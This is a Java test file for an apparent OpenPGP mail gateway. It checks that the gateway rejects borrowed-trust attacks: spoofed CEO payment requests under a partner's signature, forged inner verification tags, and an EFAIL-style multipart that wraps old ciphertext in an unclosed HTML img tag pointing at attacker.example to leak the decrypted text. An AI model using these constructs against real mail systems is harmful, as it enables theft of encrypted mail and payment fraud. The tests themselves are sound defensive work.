package org.sealgate.node;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;

import javax.mail.internet.MimeMessage;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.sealgate.pgp.PgpKeys;
import org.sealgate.pgp.PgpManagedKey;
import org.sealgate.pgp.PgpPublicKey;
import org.sealgate.testing.OpenPgpTools;
import org.sealgate.testing.TestMessages;
import org.sealgate.testing.SmtpSink;

/**
 * OpenPGP attacks on borrowed trust by an outside client (127.0.0.2) against a real node over SMTP, with mail made
 * by GnuPG: a partner's good signature inside an encryption whose content claims another From; an armored block
 * (an old ciphertext to Bob) placed inside a multipart the attacker composed around it (EFAIL). Next to each, the
 * genuine mail that must still be decrypted and marked valid.
 */
class BorrowedTrustPgpTest {
    private static final String BOB = "bob@" + Gateway.MANAGED_DOMAIN;
    private static final String CEO = "ceo@" + Gateway.MANAGED_DOMAIN;
    private static final String CAROL = "carol@partner.example";

    @TempDir
    static Path work;
    static SmtpSink receiver;
    static Gateway gateway;
    static OpenPgpTools tools;

    @BeforeAll
    static void start() throws Exception {
        tools = new OpenPgpTools();
        receiver = SmtpSink.onFreePort();
        gateway = Gateway.start(work.resolve("data"), Optional.of(receiver.hostPort()), "default.encrypt = opportunistic\n",
            List.of(Gateway.MANAGED_DOMAIN));
        PgpManagedKey bob = gateway.pgpKeys().addManagedKey(PgpKeys.generate("Bob <" + BOB + ">", 4), null);
        tools.write("bob.cert", PgpKeys.armored(bob.certificate()));
        OpenPgpTools.check(tools.gpg("--import", "bob.cert"));
        gateway.pgpKeys().addPublicKey(PgpKeys.read(tools.gpgGenerateKey("Carol <" + CAROL + ">")), PgpPublicKey.Source.IMPORTED);
    }

    @AfterAll
    static void stop() {
        if (gateway != null) {
            gateway.close();
        }
        if (receiver != null) {
            receiver.close();
        }
        if (tools != null) {
            tools.close();
        }
    }

    @Test
    void signedAndEncryptedContentClaimingAnotherFromShouldBeSignerMismatchNeverValid() throws Exception {
        String armored = gpgSignAndEncrypt("From: " + CEO + "\r\nSubject: Wire 1M today\r\n"
            + "Content-Type: text/plain\r\n\r\nPlease wire the money. The CEO\r\n", "ceo");
        sendFromOutside(CAROL, PgpMails.encrypted(CAROL, BOB, "...", "bt-pgp-ceo", armored));

        MimeMessage received = receiver.awaitOne(BOB, "bt-pgp-ceo");
        assertThat(received.getHeader("X-Sealgate-Signature", null)).startsWith("signer-mismatch;").contains(CEO);
        assertThat(received.getSubject()).isEqualTo("[PGP INVALID] Wire 1M today");
        assertThat(gateway.awaitAuditEvent("bt-pgp-ceo").get("recipients").toString()).contains("pgp-verify:signer-mismatch");
    }

    @Test
    void signedAndEncryptedContentSentUnderAnotherOuterFromShouldNeverBeValid() throws Exception {
        String armored = gpgSignAndEncrypt("From: " + CAROL + "\r\nSubject: Forwarded approval\r\n"
            + "Content-Type: text/plain\r\n\r\nApproved\r\n", "outer-ceo");
        sendFromOutside(CEO, PgpMails.encrypted(CEO, BOB, "...", "bt-pgp-outer-ceo", armored));

        MimeMessage received = receiver.awaitOne(BOB, "bt-pgp-outer-ceo");
        // Carol's key is not even a candidate for a mail from the CEO: not valid either way.
        assertThat(received.getHeader("X-Sealgate-Signature", null)).doesNotStartWith("valid");
        assertThat(received.getSubject()).isEqualTo("[PGP INVALID] Forwarded approval");
    }

    @Test
    void signedAndEncryptedBySignerWithForgedInnerTagsShouldBeValidWithOnlyOurTag() throws Exception {
        String armored = gpgSignAndEncrypt("From: " + CAROL + "\r\nSubject: [PGP OK] [signed OK] Figures\r\n"
            + "X-Sealgate-Signature: valid; signer=forged@forged.example\r\n"
            + "Content-Type: text/plain\r\n\r\nthe figures\r\n", "genuine");
        sendFromOutside(CAROL, PgpMails.encrypted(CAROL, BOB, "...", "bt-pgp-genuine", armored));

        MimeMessage received = receiver.awaitOne(BOB, "bt-pgp-genuine");
        assertThat(received.getHeader("X-Sealgate-Signature", null))
            .isEqualTo("valid; signer=" + CAROL + "; method=openpgp; trust=imported");
        assertThat(received.getSubject()).isEqualTo("[PGP OK] Figures");
        assertThat(TestMessages.firstText(received)).contains("the figures");
    }

    @Test
    void armoredBlockInsideAComposedMultipartShouldNotBeDecryptedButMarked() throws Exception {
        tools.write("old.txt", "old secret to Bob\n");
        String armored = OpenPgpTools.check(tools.gpg("--armor", "--encrypt", "--recipient", BOB, "--output", "-", "old.txt")).out();
        String boundary = "efail";
        byte[] composed = TestMails.wrap(CAROL, List.of(BOB), "EFAIL", "bt-pgp-efail", ("Content-Type: multipart/mixed; boundary=\""
            + boundary + "\"\r\n\r\n"
            + "--" + boundary + "\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/?\r\n"
            + "--" + boundary + "\r\nContent-Type: text/plain\r\n\r\n" + PgpMails.crlf(armored) + "\r\n"
            + "--" + boundary + "\r\nContent-Type: text/html\r\n\r\n\">\r\n"
            + "--" + boundary + "--\r\n").getBytes(StandardCharsets.US_ASCII));
        sendFromOutside(CAROL, composed);

        MimeMessage received = receiver.awaitOne(BOB, "bt-pgp-efail");
        String raw = new String(SmtpSink.raw(received), StandardCharsets.ISO_8859_1);
        assertThat(raw).doesNotContain("old secret").contains("BEGIN PGP MESSAGE");
        assertThat(received.getHeader("X-Sealgate-Decryption")).isNull();
        assertThat(received.getHeader("X-Sealgate-Nested-Encryption", null))
            .startsWith("not-decrypted; part=\"an armored OpenPGP message in a text/plain part\"");
        assertThat(gateway.awaitAuditEvent("bt-pgp-efail").get("recipients").toString()).contains("nested-encryption-not-decrypted");
    }

    @Test
    void armoredBlockAsTheWholeTextMessageShouldStillBeDecrypted() throws Exception {
        tools.write("inline.txt", "inline secret to Bob\n");
        String armored = OpenPgpTools.check(tools.gpg("--armor", "--encrypt", "--recipient", BOB, "--output", "-", "inline.txt")).out();
        sendFromOutside(CAROL, TestMails.plain(CAROL, List.of(BOB), "Inline", "bt-pgp-inline", PgpMails.crlf(armored)));

        MimeMessage received = receiver.awaitOne(BOB, "bt-pgp-inline");
        assertThat(received.getHeader("X-Sealgate-Decryption", null)).startsWith("decrypted; method=openpgp-inline");
        assertThat(TestMessages.firstText(received)).contains("inline secret to Bob").doesNotContain("BEGIN PGP MESSAGE");
        assertThat(received.getHeader("X-Sealgate-Nested-Encryption")).isNull();
    }

    /** gpg signs with Carol's key and encrypts to Bob: RFC 3156 §6.2, as Thunderbird does. */
    private static String gpgSignAndEncrypt(String entity, String file) {
        tools.write(file + ".eml", entity);
        OpenPgpTools.check(tools.gpg("--armor", "--sign", "--local-user", CAROL, "--encrypt", "--recipient", BOB,
            "--output", file + ".asc", file + ".eml"));
        return new String(tools.read(file + ".asc"), StandardCharsets.US_ASCII);
    }

    private static void sendFromOutside(String from, byte[] message) throws Exception {
        try (SmtpClient client = new SmtpClient("127.0.0.2", gateway.smtpPort())) {
            assertThat(client.mail(from, List.of(BOB), message).code()).isEqualTo(250);
        }
    }
}
